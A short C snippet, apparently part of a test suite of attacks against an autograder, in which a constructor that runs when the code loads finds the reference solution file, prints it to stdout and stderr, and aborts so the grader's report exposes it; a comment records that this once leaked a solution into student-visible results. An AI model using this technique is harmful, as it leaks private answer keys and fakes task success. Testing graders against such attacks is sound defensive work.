/* exfiltrate: print the reference's source and abort, so the report shows it (this once put
   264 lines of solutions/165/profile.c into the student-visible results.json). */
__attribute__((constructor)) static void attack_exfiltrate(void) {
    char *path = attack_find("solutions/165/profile.c");
    char *text = path == NULL ? NULL : attack_slurp(path, 1 << 20);
    if (text != NULL) {
        fputs(text, stdout);
        fputs(text, stderr);
    }
    abort();
}
